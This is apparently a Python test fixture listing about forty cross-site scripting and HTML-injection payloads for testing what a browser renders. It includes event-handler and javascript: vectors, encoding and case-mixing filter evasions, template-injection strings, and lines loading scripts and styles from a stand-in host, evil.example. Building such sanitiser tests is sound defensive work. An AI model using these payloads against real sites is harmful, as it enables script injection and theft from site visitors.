"""Texts that would like to be programs, for tests of all that is shown in a browser."""

from __future__ import annotations

HOSTILE = [
    "<script>hurt=1</script>", "<img src=x onerror=hurt=1>", "<svg onload=hurt=1>",
    "<svg><script>hurt=1</script></svg>", "<iframe src=javascript:parent.hurt=1></iframe>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>", "<body onload=hurt=1>",
    "<details open ontoggle=hurt=1>", "<input autofocus onfocus=hurt=1>", "<video><source onerror=hurt=1></video>",
    "<audio src=x onerror=hurt=1>", "<object data=javascript:hurt=1></object>", "<embed src=javascript:hurt=1>",
    "<a href=javascript:hurt=1>a</a>", "<form action=javascript:hurt=1><button>b",
    "<math><mi xlink:href=javascript:hurt=1>m</mi></math>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/b.css';</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>", "<img src=//evil.example/c.png>",
    "<script src=//evil.example/d.js></script>", '"><script>hurt=1</script>', "'><img src=x onerror=hurt=1>",
    "</title><script>hurt=1</script>", "</textarea><script>hurt=1</script>", "</script><script>hurt=1</script>",
    "<!--><script>hurt=1</script>-->", "<![CDATA[<script>hurt=1</script>]]>", "<ScRiPt>alert(1)</sCrIpT>",
    "<img/src=x/onerror=alert(2)>", "<svg/onload=confirm(3)>", "<<script>prompt(4)//<</script>",
    "&lt;script&gt;hurt=1&lt;/script&gt;", "&#60;img src=x onerror=hurt=1&#62;",
    "\\u003cscript\\u003ehurt=1\\u003c/script\\u003e", "${hurt=1}", "{{constructor.constructor('hurt=1')()}}",
    "javascript:hurt=1", "\u202e<script>hurt=1</script>\u2066",
]  # fmt: skip
"""What has run in somebody's page, once."""
